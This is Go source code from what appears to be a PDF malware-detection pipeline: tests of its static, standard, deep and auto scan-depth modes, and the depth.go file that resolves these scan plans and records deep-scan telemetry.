// TestDeepScanNoBenignFalsePositives: forcing both arms of benign form,
// navigation, heavy-report and SOAP scripts must not fabricate alerts —
// feature union across paths only ever unions behaviour the script
// actually contains.
func TestDeepScanNoBenignFalsePositives(t *testing.T) {
	g := corpus.NewGenerator(77)
	var docs []BatchDoc
	for _, s := range g.BenignWithJS(24) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	deep := depthSystem(t, DepthDeep, nil)
	res := deep.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d benign documents failed: %v", n, res.Errors)
	}
	for i, v := range res.Verdicts {
		if v.Malicious {
			t.Errorf("benign %s convicted at DepthDeep (alert: %+v)", docs[i].ID, v.Alert)
		}
	}
}

// TestDeepEqualsStandardOnStraightLine pins the union semantics: on a
// branch-free exploit forced execution degenerates to the natural single
// run, so DepthDeep must reproduce DepthStandard's verdict, malscore and
// feature vector exactly — no double-counted features from path replay.
func TestDeepEqualsStandardOnStraightLine(t *testing.T) {
	g := corpus.NewGenerator(31)
	s, ok := g.MaliciousFamily("mal-printf")
	if !ok {
		t.Fatal("mal-printf missing")
	}
	std := depthSystem(t, DepthStandard, nil)
	deep := depthSystem(t, DepthDeep, nil)
	vs, err := std.ProcessDocumentContext(t.Context(), "straight-std", s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	vd, err := deep.ProcessDocumentContext(t.Context(), "straight-deep", s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !vs.Malicious || !vd.Malicious {
		t.Fatalf("exploit not detected (std=%v deep=%v)", vs.Malicious, vd.Malicious)
	}
	if vs.FeatureVector != vd.FeatureVector {
		t.Errorf("feature vectors diverge:\n std=%v\ndeep=%v", vs.FeatureVector, vd.FeatureVector)
	}
	if vs.Alert.Malscore != vd.Alert.Malscore {
		t.Errorf("malscore: std=%d deep=%d", vs.Alert.Malscore, vd.Alert.Malscore)
	}
}

// TestDepthStaticNeverOpens: DepthStatic judges everything on triage
// evidence — including uncertain documents — and never creates a reader.
func TestDepthStaticNeverOpens(t *testing.T) {
	g := corpus.NewGenerator(55)
	var docs []BatchDoc
	for _, s := range g.MaliciousBatch(4) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	for _, s := range g.BenignWithJS(4) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	sys := depthSystem(t, DepthStatic, nil)
	res := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed: %v", n, res.Errors)
	}
	for i, v := range res.Verdicts {
		if v.Open != nil {
			t.Errorf("%s: DepthStatic opened a reader", docs[i].ID)
		}
		if v.TriageRoute == "" {
			t.Errorf("%s: DepthStatic verdict carries no triage route", docs[i].ID)
		}
		if v.Depth != string(DepthStatic) {
			t.Errorf("%s: verdict depth = %q", docs[i].ID, v.Depth)
		}
	}
}

// TestDepthAutoEscalatesUncertainToDeep: at DepthAuto a confidently
// routed document never opens, while an uncertain one goes straight to a
// forced-execution open.
func TestDepthAutoEscalatesUncertainToDeep(t *testing.T) {
	sys := depthSystem(t, DepthAuto, nil)
	g := corpus.NewGenerator(91)
	var uncertainSeen, routedSeen, deepOpens int
	docs := append(g.MaliciousBatch(6), g.BenignWithJS(6)...)
	for _, s := range docs {
		v, err := sys.ProcessDocumentContext(t.Context(), s.ID, s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if v.Depth != string(DepthAuto) {
			t.Errorf("%s: verdict depth = %q, want auto", s.ID, v.Depth)
		}
		switch v.TriageRoute {
		case "uncertain":
			uncertainSeen++
			if v.Open == nil {
				t.Errorf("%s: uncertain route produced no open", s.ID)
			} else if v.Open.DeepPaths == 0 {
				t.Errorf("%s: uncertain open was not deep-scanned", s.ID)
			} else {
				deepOpens++
			}
		case "benign", "malicious":
			routedSeen++
			if v.Open != nil {
				t.Errorf("%s: confidently routed document opened a reader", s.ID)
			}
		case "":
			t.Errorf("%s: no triage route at DepthAuto", s.ID)
		}
	}
	if uncertainSeen == 0 || routedSeen == 0 {
		t.Fatalf("mix did not exercise both lanes (uncertain=%d routed=%d); pick new seeds", uncertainSeen, routedSeen)
	}
	if deepOpens == 0 {
		t.Fatal("no uncertain document was deep-scanned")
	}
}

// TestDeepScanTelemetry: a deep batch publishes the path counter, the
// per-open histogram and a TypeDeepScan journal event per dynamic open.
func TestDeepScanTelemetry(t *testing.T) {
	var buf bytes.Buffer
	j := journal.NewWriter(&buf, journal.Options{Session: "deep"})
	sys := depthSystem(t, DepthDeep, j)
	s, ok := attack.EvasiveSample("mal-timebomb", 7)
	if !ok {
		t.Fatal("mal-timebomb missing")
	}
	if _, err := sys.ProcessDocumentContext(t.Context(), s.ID, s.Raw); err != nil {
		t.Fatal(err)
	}
	snap := sys.Obs.Snapshot()
	if snap.Counters[obs.MetricDeepScanPaths] < 2 {
		t.Errorf("%s = %d, want >= 2", obs.MetricDeepScanPaths, snap.Counters[obs.MetricDeepScanPaths])
	}
	if h, ok := snap.Histograms[obs.MetricDeepScanSeconds]; !ok || h.Count == 0 {
		t.Errorf("%s histogram empty", obs.MetricDeepScanSeconds)
	}
	if err := j.Flush(); err != nil {
		t.Fatal(err)
	}
	events, err := journal.Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	var deepEvents int
	for _, e := range events {
		if e.T == journal.TypeDeepScan {
			deepEvents++
			if e.DeepScan == nil || e.DeepScan.Paths < 2 {
				t.Errorf("deepscan event payload = %+v, want >= 2 paths", e.DeepScan)
			}
		}
	}
	if deepEvents == 0 {
		t.Error("no TypeDeepScan event journaled")
	}
}

// TestDeepReplayDeterminism is the satellite's replay pin: a deep-scan
// batch at width > 1 — evasive gates, working exploits and benign JS all
// force-executed — records a journal whose canonical stream replays
// byte-identically through a fresh detector, deep-scan events riding
// along as non-canonical context.
func TestDeepReplayDeterminism(t *testing.T) {
	var recBuf bytes.Buffer
	rec := journal.NewWriter(&recBuf, journal.Options{Session: "deep-live"})
	sys := depthSystem(t, DepthDeep, rec)

	g := corpus.NewGenerator(499)
	var docs []BatchDoc
	for i, kind := range attack.EvasiveKinds() {
		s, ok := attack.EvasiveSample(kind, int64(500+i))
		if !ok {
			t.Fatalf("unknown evasive kind %s", kind)
		}
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	for _, s := range g.MaliciousBatch(3) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	for _, s := range g.BenignWithJS(3) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}

	res := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 3})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed: %v", n, res.Errors)
	}
	if err := rec.Flush(); err != nil {
		t.Fatal(err)
	}
	recorded, err := journal.Read(&recBuf)
	if err != nil {
		t.Fatal(err)
	}
	var deepEvents int
	for _, e := range recorded {
		if e.T == journal.TypeDeepScan {
			deepEvents++
		}
	}
	if want := len(docs); deepEvents != want {
		t.Fatalf("deepscan events = %d, want one per open (%d)", deepEvents, want)
	}

	var repBuf bytes.Buffer
	rep := journal.NewWriter(&repBuf, journal.Options{Session: "deep-replay"})
	det2, err := detect.New(detect.Config{
		Registry: sys.Registry,
		OS:       winos.NewOS(),
		Obs:      obs.NewRegistry(),
		Journal:  rep,
	})
	if err != nil {
		t.Fatal(err)
	}
	stats := journal.Replay(recorded, det2)
	if stats.Hooks == 0 {
		t.Fatalf("replay fed nothing: %+v", stats)
	}
	if err := rep.Flush(); err != nil {
		t.Fatal(err)
	}
	replayed, err := journal.Read(&repBuf)
	if err != nil {
		t.Fatal(err)
	}
	if diffs := journal.Diff(recorded, replayed); len(diffs) != 0 {
		for _, d := range diffs {
			t.Error(d)
		}
		t.Fatalf("deep-scan replay diverged in %d place(s)", len(diffs))
	}
}

// TestBatchDepthOverride: BatchOptions.Depth wins over the system depth,
// and an unknown value fails every slot without starting the batch.
func TestBatchDepthOverride(t *testing.T) {
	sys := depthSystem(t, DepthStandard, nil)
	s, ok := attack.EvasiveSample("mal-envgate", 11)
	if !ok {
		t.Fatal("mal-envgate missing")
	}
	docs := []BatchDoc{{ID: s.ID, Raw: s.Raw}}

	res := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{Depth: DepthDeep})
	if res.Failed() != 0 {
		t.Fatalf("deep override failed: %v", res.Errors)
	}
	if v := res.Verdicts[0]; !v.Malicious || v.Depth != string(DepthDeep) {
		t.Errorf("override verdict: malicious=%v depth=%q, want convicted at deep", v.Malicious, v.Depth)
	}

	bad := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{Depth: Depth("turbo")})
	if bad.Failed() != len(docs) {
		t.Fatalf("unknown depth: %d slots failed, want all %d", bad.Failed(), len(docs))
	}
}

// TestDepthValidation: NewSystem rejects unknown depths; ParseDepth
// round-trips the four names and the unset empty string.
func TestDepthValidation(t *testing.T) {
	if _, err := NewSystem(Options{Obs: obs.NewRegistry(), Depth: Depth("bogus")}); err == nil {
		t.Fatal("NewSystem accepted an unknown depth")
	}
	for _, name := range []string{"", "static", "standard", "deep", "auto"} {
		d, err := ParseDepth(name)
		if err != nil {
			t.Fatalf("ParseDepth(%q): %v", name, err)
		}
		if string(d) != name {
			t.Fatalf("ParseDepth(%q) = %q", name, d)
		}
	}
	if _, err := ParseDepth("shallow"); err == nil {
		t.Fatal("ParseDepth accepted an unknown name")
	}
	if got := fmt.Stringer(DepthDeep).String(); got != "deep" {
		t.Fatalf("DepthDeep.String() = %q", got)
	}
}

// TestNoJavaScriptVerdictCarriesDepth pins that the scriptless fast
// path (no chains, no open at any depth) still stamps the resolved
// depth on the verdict: every verdict a depth-pinned system produces
// must answer "which depth was this", including the ones that never
// reached a reader session.
func TestNoJavaScriptVerdictCarriesDepth(t *testing.T) {
	s := corpus.NewGenerator(7).BenignText(4 << 10)
	sys := depthSystem(t, DepthDeep, nil)
	v, err := sys.ProcessDocumentContext(t.Context(), s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.NoJavaScript {
		t.Fatalf("benign text sample unexpectedly has Javascript")
	}
	if v.Depth != string(DepthDeep) {
		t.Fatalf("NoJavaScript verdict depth = %q, want %q", v.Depth, DepthDeep)
	}
}
