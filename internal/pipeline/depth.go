package pipeline

import (
	"fmt"
	"time"

	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/reader"
	"pdfshield/internal/triage"
)

// Depth selects how hard one submission is scanned. It is the single
// depth-axis knob of the pipeline, replacing the accreted per-tier
// toggles (the deprecated Options.Triage field keeps working as an
// alias for one release; see Options).
type Depth string

const (
	// DepthStatic runs the static triage tier only: every submission gets
	// a verdict from the census scorer and no reader session is ever
	// created — uncertain documents are scored on their static signals
	// instead of escalating. The cheapest tier, for pre-filter passes.
	DepthStatic Depth = "static"
	// DepthStandard is the classic single-execution dynamic scan: each
	// document opens once in a monitored reader and the detector judges
	// the natural execution path. The deprecated Triage option still
	// short-circuits confident documents when set.
	DepthStandard Depth = "standard"
	// DepthDeep forces execution of every document: conditional branches
	// are explored on both arms (bounded by Options.DeepScan), runtime
	// features are unioned across all explored paths, and triage is
	// bypassed so nothing is judged on static evidence alone.
	DepthDeep Depth = "deep"
	// DepthAuto routes by triage: confident documents are judged
	// statically, and everything uncertain escalates straight to a
	// forced-execution deep scan. The recommended production setting —
	// deep-scan cost is paid only where static analysis is blind.
	DepthAuto Depth = "auto"
)

// ParseDepth validates a depth name from a flag or request field. The
// empty string is accepted and means "unset" (the system default
// resolution applies).
func ParseDepth(s string) (Depth, error) {
	switch d := Depth(s); d {
	case "", DepthStatic, DepthStandard, DepthDeep, DepthAuto:
		return d, nil
	default:
		return "", fmt.Errorf("unknown scan depth %q (want static, standard, deep or auto)", s)
	}
}

// Valid reports whether d is one of the four named depths.
func (d Depth) Valid() bool {
	switch d {
	case DepthStatic, DepthStandard, DepthDeep, DepthAuto:
		return true
	}
	return false
}

func (d Depth) String() string { return string(d) }

// depthProfile is one submission's resolved scan plan: which triage
// config gates the open (nil = no triage), whether the verdict must be
// synthesized statically, and which forced-execution bounds apply to
// the reader open (nil = natural single execution).
type depthProfile struct {
	depth      Depth
	triage     *triage.Config
	staticOnly bool
	force      *js.ForceConfig
}

// depthProfile resolves the effective scan plan for one submission.
// override (from BatchOptions or a serve request) wins over the
// system-wide Options.Depth; when both are unset the legacy resolution
// applies: the deprecated Options.Triage field selects triage+standard,
// otherwise plain standard.
func (s *System) depthProfile(override Depth) depthProfile {
	d := override
	if d == "" {
		d = s.opts.Depth
	}
	switch d {
	case DepthStatic:
		return depthProfile{depth: DepthStatic, triage: s.triageConfig(), staticOnly: true}
	case DepthDeep:
		f := s.opts.DeepScan
		return depthProfile{depth: DepthDeep, force: &f}
	case DepthAuto:
		f := s.opts.DeepScan
		return depthProfile{depth: DepthAuto, triage: s.triageConfig(), force: &f}
	default:
		// DepthStandard, and the unset legacy default (which honours the
		// deprecated Triage field).
		return depthProfile{depth: DepthStandard, triage: s.opts.Triage}
	}
}

// triageConfig returns the triage configuration for depths that require
// the tier: the deprecated Options.Triage when set (so existing tuning
// carries over), else the zero production default.
func (s *System) triageConfig() *triage.Config {
	if s.opts.Triage != nil {
		return s.opts.Triage
	}
	return &triage.Config{}
}

// recordDeepScan publishes one deep open's forced-execution accounting:
// the path counter, the whole-open latency histogram, the
// budget-exhausted counter, and the (non-canonical) journal event.
func (s *System) recordDeepScan(docID string, res *instrument.Result, open *reader.OpenResult, dur time.Duration) {
	if open == nil {
		return
	}
	s.Obs.CounterAdd(obs.MetricDeepScanPaths, uint64(open.DeepPaths))
	// Deep opens use the widened DeepScanBuckets bounds (a forced open
	// routinely exceeds the default 10s ceiling) and remember the slowest
	// doc per bucket as an exemplar.
	s.Obs.Histogram(obs.MetricDeepScanSeconds, obs.DeepScanBuckets).
		ObserveExemplar(dur.Seconds(), docID)
	if open.DeepBudgetExhausted > 0 {
		s.Obs.CounterAdd(obs.MetricDeepScanBudget, uint64(open.DeepBudgetExhausted))
	}
	if s.opts.Journal == nil {
		return
	}
	e := journal.Event{T: journal.TypeDeepScan, DocID: docID}
	if res != nil {
		e.Key = res.Key.InstrKey
	}
	e.DeepScan = &journal.DeepScan{
		Paths:           open.DeepPaths,
		CrashedPaths:    open.DeepCrashedPaths,
		BudgetExhausted: open.DeepBudgetExhausted,
	}
	s.opts.Journal.Append(e)
}
